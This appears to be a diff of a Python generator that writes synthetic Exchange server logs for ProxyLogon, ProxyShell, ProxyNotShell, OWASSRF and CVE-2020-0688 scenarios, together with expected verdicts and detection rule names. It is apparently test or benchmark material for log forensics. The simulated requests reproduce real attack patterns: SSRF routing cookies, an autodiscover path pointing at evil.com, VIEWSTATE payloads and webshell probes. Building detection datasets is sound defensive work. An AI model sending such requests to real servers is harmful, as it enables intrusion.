-    return {"verdict": "compromised", "cves": ["CVE-2022-41080", "CVE-2022-41082"], "ips": [atk.ip], "user_agents": [atk.ua], "rules": sorted(set(rules))}
+    return {
+        "verdict": "compromised",
+        "cves": ["CVE-2022-41080", "CVE-2022-41082"],
+        "ips": [atk.ip],
+        "user_agents": [atk.ua],
+        "rules": sorted(set(rules)),
+    }
 
 
 def cve_2020_0688(site: Site, start: datetime) -> dict[str, object]:
@@ -412,7 +683,13 @@ def cve_2020_0688(site: Site, start: datetime) -> dict[str, object]:
         payload = random_name(rng, rng.randint(200, 600)).replace("x", "%2B").replace("y", "%2F")
         query = f"__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE={payload}"
         site.requests.append(Request(t, "GET", "/ecp/default.aspx", query, user, atk.ip, atk.ua, 500))
-    return {"verdict": "exploited", "cves": ["CVE-2020-0688"], "ips": [atk.ip], "user_agents": [atk.ua], "rules": ["cve-2020-0688-viewstate"]}
+    return {
+        "verdict": "exploited",
+        "cves": ["CVE-2020-0688"],
+        "ips": [atk.ip],
+        "user_agents": [atk.ua],
+        "rules": ["cve-2020-0688-viewstate"],
+    }
 
 
 def attempt_only(site: Site, start: datetime) -> dict[str, object]:
@@ -423,21 +700,78 @@ def attempt_only(site: Site, start: datetime) -> dict[str, object]:
     for ip in ips:
         t += timedelta(minutes=rng.randint(5, 600))
         be = f"a]@{site.fqdn}:444"
-        site.requests.append(Request(t, "POST", f"/ecp/{rng.choice(string.ascii_lowercase)}.js", "", "", ip, "python-requests/2.25.1", 500,
-                                     anchor=f"ServerInfo~{be}/autodiscover/autodiscover.xml?#", routing_hint="X-BEResource-Cookie"))
-        site.requests.append(Request(t + timedelta(seconds=3), "GET", "/owa/auth/x.js", "", "", ip, rng.choice(BROWSER_UAS), 500,
-                                     anchor="ServerInfo~localhost/ecp/default.flt?", routing_hint="X-AnonResource-Backend-Cookie", target="localhost"))
-        site.requests.append(Request(t + timedelta(seconds=9), "POST", "/autodiscover/autodiscover.json",
-                                     "@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com", "", ip, "python-requests/2.26.0", 401))
+        site.requests.append(
+            Request(
+                t,
+                "POST",
+                f"/ecp/{rng.choice(string.ascii_lowercase)}.js",
+                "",
+                "",
+                ip,
+                "python-requests/2.25.1",
+                500,
+                anchor=f"ServerInfo~{be}/autodiscover/autodiscover.xml?#",
+                routing_hint="X-BEResource-Cookie",
+            )
+        )
+        site.requests.append(
+            Request(
+                t + timedelta(seconds=3),
+                "GET",
+                "/owa/auth/x.js",
+                "",
+                "",
+                ip,
+                rng.choice(BROWSER_UAS),
+                500,
+                anchor="ServerInfo~localhost/ecp/default.flt?",
+                routing_hint="X-AnonResource-Backend-Cookie",
+                target="localhost",
+            )
+        )
+        site.requests.append(
+            Request(
+                t + timedelta(seconds=9),
+                "POST",
+                "/autodiscover/autodiscover.json",
+                "@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com",
+                "",
+                ip,
+                "python-requests/2.26.0",
+                401,
+            )
+        )
         for name in rng.sample(("errorEE.aspx", "OutlookEN.aspx", "supp0rt.aspx", "shell.aspx", "discover.aspx", "HttpProxy.aspx"), 3):
             folder = rng.choice(("/owa/auth/", "/aspnet_client/", "/aspnet_client/system_web/"))
-            site.requests.append(Request(t + timedelta(seconds=rng.randint(10, 120)), "GET", folder + name, "", "", ip, rng.choice(BROWSER_UAS), 404, proxied=False))
-    return {"verdict": "attempted", "cves": [], "ips": ips, "user_agents": [], "max_severity": "medium",
-            "rules": ["proxylogon-ssrf-autodiscover", "proxyshell-autodiscover-ssrf", "webshell-request", "proxylogon-ecp-js-post"]}
+            site.requests.append(
+                Request(
+                    t + timedelta(seconds=rng.randint(10, 120)),
+                    "GET",
+                    folder + name,
+                    "",
+                    "",
+                    ip,
+                    rng.choice(BROWSER_UAS),
+                    404,
+                    proxied=False,
+                )
+            )
+    return {
+        "verdict": "attempted",
+        "cves": [],
+        "ips": ips,
+        "user_agents": [],
+        "max_severity": "medium",
+        "rules": ["proxylogon-ssrf-autodiscover", "proxyshell-autodiscover-ssrf", "webshell-request", "proxylogon-ecp-js-post"],
+    }
 
 
 SCENARIOS = {
-    "proxylogon": (proxylogon, datetime(2021, 2, 26), ("15.1.2176.2", "15.1.2106.2", "15.2.792.3", "15.2.721.2", "15.0.1497.2", "15.1.1979.3")),
+    "proxylogon": (
+        proxylogon,
+        datetime(2021, 2, 26),
+        ("15.1.2176.2", "15.1.2106.2", "15.2.792.3", "15.2.721.2", "15.0.1497.2", "15.1.1979.3"),
+    ),
     "proxyshell": (proxyshell, datetime(2021, 8, 10), ("15.1.2176.9", "15.2.792.10", "15.1.2242.4", "15.2.858.5")),
     "proxynotshell": (proxynotshell, datetime(2022, 9, 20), ("15.1.2375.7", "15.2.986.5", "15.1.2507.6", "15.2.1118.7")),
     "owassrf": (owassrf, datetime(2022, 12, 5), ("15.1.2375.7", "15.2.986.5", "15.1.2507.6", "15.2.1118.7")),
